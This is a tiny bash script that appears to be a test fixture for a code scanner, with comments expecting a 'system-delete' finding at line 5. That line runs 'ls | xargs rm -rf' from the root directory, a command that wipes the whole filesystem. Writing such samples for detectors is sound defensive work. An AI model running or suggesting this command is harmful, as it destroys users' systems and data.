#!/bin/bash
# shows: a listing goes to rm
# expect: system-delete at line 5
cd /
ls | xargs rm -rf
